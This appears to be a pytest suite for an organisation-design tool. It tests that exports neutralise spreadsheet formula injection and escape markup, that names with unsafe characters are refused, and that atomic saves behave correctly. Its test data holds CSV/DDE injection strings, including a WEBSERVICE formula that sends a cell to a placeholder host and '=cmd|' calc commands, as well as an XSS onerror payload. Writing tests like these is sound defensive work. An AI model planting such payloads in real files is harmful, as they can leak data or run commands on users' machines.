"""Hostile names in exports, unsafe characters in texts, and the files a save leaves.

A design whose role, department, duty and option names are spreadsheet formulas
(``=HYPERLINK(...)``, ``=cmd|...``, ``@SUM(...)``, ``+1+1``, ``-1+2``) and markup
(``<img onerror=...>``, ``|``) is written to every format; each must show the names as
text. Unsafe characters are refused at validation; a save cut short leaves nothing that
the next save does not clean; modes and unwritable targets behave like ``open()``'s.
"""

from __future__ import annotations

import csv
import html
import io
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest

from shoporg import DesignFileError, DesignValidationError, load_scenario
from shoporg.io import atomic
from shoporg.io.atomic import atomic_write
from shoporg.io.excel import SHEETS, write_excel
from shoporg.io.text import design_from_csv, read_csv, to_html, to_markdown, write_csv, write_markdown
from shoporg.io.word import write_docx as write_word
from shoporg.io.yaml_io import design_from_dict, design_to_dict

PAYLOADS = ['=HYPERLINK("http://x","click")', '=WEBSERVICE("http://x/?"&A1)', "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+2", "=1+1", "<img src=x onerror=alert(1)> | x"]
FORMULAS = PAYLOADS[:6]


def _hostile(d14, variant: str = ""):
    """d14 with every role, department and duty named by a payload (numbered: names stay unique)."""
    data = design_to_dict(d14)
    data["name"] = {"zh": PAYLOADS[0] + variant, "en": PAYLOADS[1] + variant}
    for i, dep in enumerate(data["departments"]):
        dep["name"] = {"zh": f"{PAYLOADS[i % len(PAYLOADS)]}{i}", "en": f"{PAYLOADS[(i + 1) % len(PAYLOADS)]}{i}"}
    for i, role in enumerate(data["roles"]):
        role["name"] = {"zh": f"{PAYLOADS[i % len(PAYLOADS)]}#{i}", "en": f"{PAYLOADS[(i + 3) % len(PAYLOADS)]}#{i}"}
        for j, duty in enumerate(role.get("duties") or []):
            duty["zh"] = PAYLOADS[(i + j) % len(PAYLOADS)]
    return design_from_dict(data)


@pytest.fixture(scope="module")
def hostile(d14):
    return _hostile(d14)


@pytest.fixture(scope="module")
def workbook(hostile, d14, tmp_path_factory):
    """The hostile design against a second option without its last role, with a payroll."""
    other = _hostile(d14, " (B)").without_role(d14.roles[-1].id)
    path = tmp_path_factory.mktemp("xlsx") / "hostile.xlsx"
    return write_excel([hostile, other], path, scenario=load_scenario("d14-double11"))


def _cells(path):
    import openpyxl
    wb = openpyxl.load_workbook(path)
    return {ws.title: [c for row in ws.iter_rows() for c in row] for ws in wb.worksheets}


# -- formula injection -------------------------------------------------------------------

def test_no_text_cell_of_any_sheet_is_a_formula_but_the_kpi_score(workbook):
    sheets = _cells(workbook)
    for title, cells in sheets.items():
        for c in cells:
            if c.data_type == "f":
                assert title == SHEETS["kpi"]["zh"] and c.column_letter == "F", (title, c.coordinate, c.value)
                assert re.fullmatch(r'=IF\(E(\d+)="","",D\1\*E\1/100\)', c.value) and c.value.endswith(f"{c.row}/100)")
    kpi = [c for c in sheets[SHEETS["kpi"]["zh"]] if c.data_type == "f"]
    assert kpi, "the KPI sheet keeps its weighted-score formulas"
    for key in ("roles", "payroll", "coverage", "kpi", "diff", "compare", "headcount"):
        shown = {c.value for c in sheets[SHEETS[key]["zh"]] if isinstance(c.value, str)}
        assert any(p in v for v in shown for p in FORMULAS), f"{key}: the hostile names are in the sheet"
    # a payload cell is a string cell, marked with the quote prefix that keeps it text in Excel
    for title, cells in sheets.items():
        for c in cells:
            if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")) and c.data_type != "f":
                assert c.data_type == "s" and c.quotePrefix, (title, c.coordinate)


def test_the_hostile_workbook_reads_back_as_the_design(workbook, hostile):
    from shoporg.io.excel import read_excel
    assert read_excel(workbook) == hostile


def test_numbers_stay_numbers(workbook, hostile):
    sheets = _cells(workbook)
    roles = sheets[SHEETS["roles"]["zh"]]
    column = next(c.column for c in roles if c.row == 1 and c.value == "人数")  # found by its header
    headcounts = [c.value for c in roles if c.column == column and c.row > 1]
    assert headcounts == [float(r.headcount) for r in hostile.roles]
    assert all(isinstance(v, (int, float)) and c.data_type == "n" for c, v in zip(
        [c for c in roles if c.column == column and c.row > 1], headcounts))
    pay = [c for c in sheets[SHEETS["payroll"]["zh"]] if c.column >= 4 and c.row > 1 and c.value is not None]
    assert pay and all(c.data_type == "n" for c in pay if not isinstance(c.value, str))


def _soffice():
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if not exe:
        pytest.skip("LibreOffice is not installed")
    return exe


def _libreoffice_csv(path: Path, out: Path) -> dict[str, list[list[str]]]:
    """Every sheet as LibreOffice computes and shows it (CSV, UTF-8, one file per sheet)."""
    subprocess.run([_soffice(), "--headless", f"-env:UserInstallation=file://{out}/profile", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
                    "--outdir", str(out), str(path)], check=True, capture_output=True, timeout=180)
    sheets = {}
    for f in out.glob(f"{path.stem}-*.csv"):
        sheets[f.stem[len(path.stem) + 1:]] = list(csv.reader(io.StringIO(f.read_text(encoding="utf-8"))))
    assert sheets, "LibreOffice wrote no sheet"
    return sheets


def test_libreoffice_shows_the_names_as_typed_and_computes_only_our_formula(workbook, tmp_path, hostile):
    import openpyxl
    wb = openpyxl.load_workbook(workbook)
    kpi = wb[SHEETS["kpi"]["zh"]]
    kpi["D2"], kpi["E2"] = 30, 80  # a consultant fills in a weight and a score: the weighted score is computed
    filled = tmp_path / "filled.xlsx"
    wb.save(filled)
    sheets = _libreoffice_csv(filled, tmp_path)
    everything = [cell for rows in sheets.values() for row in rows for cell in row]
    assert "click" not in everything and "2" not in sheets[SHEETS["roles"]["zh"]][1]
    names = {r.name.zh for r in hostile.roles}
    for key in ("roles", "coverage", "kpi", "payroll"):
        assert names & {row[0] for row in sheets[SHEETS[key]["zh"]]}, key
    shown = set(everything)
    for p in FORMULAS:
        assert any(p in cell for cell in shown), p
    assert sheets[SHEETS["kpi"]["zh"]][1][5] == "24"
    assert sheets[SHEETS["kpi"]["zh"]][2][5] == ""


def test_csv_cells_never_start_a_formula_and_read_back_exactly(hostile, tmp_path):
    path = write_csv(hostile, tmp_path / "roles.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + hostile.roles[0].name.zh in cells
    assert read_csv(path)["岗位"].tolist() == [r.name.zh for r in hostile.roles]
    assert design_from_csv(path, hostile) == hostile


@pytest.mark.parametrize("name", ["'=1+1", "''@x", "'s shop", "'", "-", "@=1"])
def test_csv_round_trip_of_quotes_and_formula_starts(d14, tmp_path, name):
    d = d14.renamed("picker", name)
    path = write_csv(d, tmp_path / "r.csv")
    assert read_csv(path)["岗位"].tolist()[[r.id for r in d.roles].index("picker")] == d.role("picker").name.zh
    assert design_from_csv(path, d) == d


@pytest.mark.parametrize("name,kind,at", [("\t=1", "a tab", 1), ("@\n=1", "a line break", 2),
                                          ("拣货\u2028员", "a line break", 3)])
def test_a_name_of_more_than_one_line_is_refused_at_its_place(d14, name, kind, at):
    with pytest.raises(DesignValidationError) as e:
        d14.renamed("picker", name)
    i = [r.id for r in d14.roles].index("picker")
    assert [str(p) for p in e.value.problems] == [f"roles[{i}].name.zh: holds {kind} at character {at}; allowed in a "
                                                  "name: one line of text (line breaks may go into the description "
                                                  "or the notes)"]


def test_markdown_and_html_escape_markup(hostile, tmp_path):
    md = to_markdown(hostile)
    page = to_html(hostile)
    for text in (md, page, write_markdown(hostile, tmp_path / "r.md").read_text(encoding="utf-8")):
        assert "<img" not in text and "onerror=alert(1)>" not in text
    assert html.escape("<img src=x onerror=alert(1)>", quote=False) in md
    lines = md.splitlines()
    columns = lines[0].count("|")
    for line in lines[2:]:  # a `|` in a name does not add a column
        assert len(re.findall(r"(?<!\\)\|", line)) == columns, line


def test_word_report_holds_text_only(hostile, tmp_path):
    path = write_word(hostile, tmp_path / "r.docx", scenario=load_scenario("d14-double11"))
    with zipfile.ZipFile(path) as z:
        xml = z.read("word/document.xml").decode("utf-8")
        rels = z.read("word/_rels/document.xml.rels").decode("utf-8")
    assert not re.search(r"<w:(fldSimple|instrText|fldChar|hyperlink)\b", xml)
    assert "http://x" not in rels and 'TargetMode="External"' not in rels
    assert html.escape(PAYLOADS[0], quote=False).replace('"', "&quot;") in xml or \
        html.escape(PAYLOADS[0], quote=False) in xml


# -- unsafe characters --------------------------------------------------------------------

UNSAFE = ["\x00", "\x07", "\r", "\x1b", "\x7f", "\x85", "\x9b", "\u202a", "\u202e", "\u2066", "\u2069", "\ufffe"]


@pytest.mark.parametrize("char", UNSAFE, ids=[f"U+{ord(c):04X}" for c in UNSAFE])
def test_unsafe_characters_in_names_are_refused_with_their_place(d14, char):
    data = design_to_dict(d14)
    data["roles"][2]["name"] = {"zh": "岗" + char + "位", "en": "ok"}
    data["roles"][1]["duties"][0]["en"] = "a" + char
    data["departments"][0]["name"] = char
    with pytest.raises(DesignValidationError) as e:
        design_from_dict(data)
    where = {p.location: p for p in e.value.problems}
    assert {"roles[2].name.zh", "roles[1].duties[0].en", "departments[0].name.zh"} <= set(where)
    message = where["roles[2].name.zh"].message
    assert f"U+{ord(char):04X}" in message and "at character 2" in message and "allowed:" in message
    assert char not in message
    assert "字符" in where["roles[2].name.zh"].text("zh")


def test_line_breaks_and_tabs_stay_allowed(d14, tmp_path):
    data = design_to_dict(d14)
    data["roles"][1]["duties"][0]["zh"] = "第一\t第二\n第三"
    data["roles"][1]["pay_method"] = {"zh": "底薪\n提成\t另计"}
    d = design_from_dict(data)
    assert d.roles[1].duties[0].zh == "第一\t第二\n第三" and d.roles[1].pay_method.zh == "底薪\n提成\t另计"
    write_excel(d, tmp_path / "ok.xlsx")
    write_word(d, tmp_path / "ok.docx")


# -- temporary files, modes, unwritable targets ------------------------------------------------

_KILLED = textwrap.dedent("""
    import sys, time
    from pathlib import Path
    from shoporg.io.atomic import atomic_write
    def write(tmp):
        Path(tmp).write_text("half")
        print(tmp, flush=True)
        time.sleep(600)
    atomic_write(sys.argv[1], write, overwrite=True)
""")


def _temps(folder: Path, name: str) -> list[Path]:
    return sorted(folder.glob(f".{name}.*.tmp"))


def test_a_save_killed_half_way_leaves_a_temp_the_next_save_removes(tmp_path):
    target = tmp_path / "d.xlsx"
    target.write_text("old")
    proc = subprocess.Popen([sys.executable, "-c", _KILLED, str(target)], stdout=subprocess.PIPE, text=True)
    tmp = Path(proc.stdout.readline().strip())
    assert tmp.exists() and str(proc.pid) in tmp.name
    atomic_write(target, lambda t: Path(t).write_text("during"), overwrite=True)  # a save while it runs
    assert tmp.exists(), "a save in progress is never removed"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    proc.stdout.close()
    assert target.read_text() == "during" and _temps(tmp_path, "d.xlsx") == [tmp]
    atomic_write(target, lambda t: Path(t).write_text("next"), overwrite=True)
    assert tmp.exists(), "a young leftover is kept a while (its writer may be on another machine)"
    old = time.time() - atomic.GONE_AFTER - 5
    os.utime(tmp, (old, old))
    atomic_write(target, lambda t: Path(t).write_text("new"), overwrite=True)
    assert target.read_text() == "new" and _temps(tmp_path, "d.xlsx") == []


def test_only_our_stale_leftovers_are_removed(tmp_path):
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        ancient = time.time() - atomic.STALE_AFTER - 10
        a_while = time.time() - atomic.GONE_AFTER - 10
        files = {
            "stale_old_style": (tmp_path / ".d.md.abc12345.tmp", ancient),
            "stale_any_pid": (tmp_path / f".d.md.{sleeper.pid}.abc12345.tmp", ancient),
            "alive_writer": (tmp_path / f".d.md.{sleeper.pid}.zzz12345.tmp", a_while),
            "other_target": (tmp_path / ".e.md.abc12345.tmp", ancient),
            "not_ours": (tmp_path / ".d.md.notes.txt", ancient),
            "a_person's": (tmp_path / "d.md.abc12345.tmp", ancient),
        }
        for path, when in files.values():
            path.write_text("x")
            os.utime(path, (when, when))
        folder = tmp_path / f".d.md.{sleeper.pid}.dir12345.tmp"
        folder.mkdir()
        os.utime(folder, (ancient, ancient))
        atomic_write(tmp_path / "d.md", lambda t: Path(t).write_text("x"))
        left = {k for k, (p, _) in files.items() if p.exists()}
        assert left == {"alive_writer", "other_target", "not_ours", "a_person's"} and folder.is_dir()
    finally:
        sleeper.kill()
        sleeper.wait()


def test_overwriting_keeps_the_mode_and_new_files_follow_the_umask(tmp_path):
    target = tmp_path / "shared.md"
    target.write_text("old")
    os.chmod(target, 0o664)
    atomic_write(target, lambda t: Path(t).write_text("new"), overwrite=True)
    assert stat.S_IMODE(target.stat().st_mode) == 0o664
    os.chmod(target, 0o600)
    atomic_write(target, lambda t: Path(t).write_text("newer"), overwrite=True)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    old = os.umask(0o027)
    try:
        fresh = atomic_write(tmp_path / "fresh.md", lambda t: Path(t).write_text("x"))
    finally:
        os.umask(old)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o640
    os.umask(old)
    again = atomic_write(tmp_path / "again.md", lambda t: Path(t).write_text("x"))
    assert stat.S_IMODE(again.stat().st_mode) == 0o666 & ~old


@pytest.mark.parametrize("writer", ["excel", "word", "csv", "markdown", "chart"])
def test_unwritable_targets_are_located_errors(d14, tmp_path, writer):
    from shoporg import save_org_chart
    blocker = tmp_path / "file.txt"
    blocker.write_text("a file, not a folder")
    suffix = {"excel": ".xlsx", "word": ".docx", "csv": ".csv", "markdown": ".md", "chart": ".png"}[writer]
    write = {"excel": lambda p: write_excel(d14, p), "word": lambda p: write_word(d14, p),
             "csv": lambda p: write_csv(d14, p), "markdown": lambda p: write_markdown(d14, p),
             "chart": lambda p: save_org_chart(d14, p)}[writer]
    under = blocker / "sub" / f"out{suffix}"
    with pytest.raises(DesignFileError) as e:
        write(under)
    assert str(under) in str(e.value) and "is a file, not a folder" in str(e.value)
    long = tmp_path / ("名" * 100 + suffix)
    with pytest.raises(DesignFileError) as e:
        write(long)
    assert str(long) in str(e.value) and "at most 255 bytes" in str(e.value)
    assert blocker.read_text() == "a file, not a folder" and sorted(p.name for p in tmp_path.iterdir()) == ["file.txt"]


def test_a_failing_disk_is_a_located_error_that_is_still_an_oserror(d14, tmp_path, monkeypatch):
    import errno
    target = tmp_path / "d.xlsx"

    def full(*a, **k):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    monkeypatch.setattr(os, "link", full)
    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(DesignFileError) as e:
        write_excel(d14, target)
    assert isinstance(e.value, OSError) and str(target) in str(e.value)
    assert os.strerror(errno.ENOSPC) in str(e.value) and "allowed:" in str(e.value)
    assert list(tmp_path.iterdir()) == []


def test_the_command_line_csv_neutralises_formula_names(tmp_path, capsys):
    from shoporg.cli import main

    path = tmp_path / "shop.yaml"
    path.write_text("schema: shoporg/design-v1\nid: shop\nname: 小店\nroles:\n  - id: boss\n"
                    "    name: '=HYPERLINK(\"http://x\",\"click\")'\n    headcount: 1\n", encoding="utf-8")
    assert main(["show", str(path), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out and ",=HYPERLINK" not in out
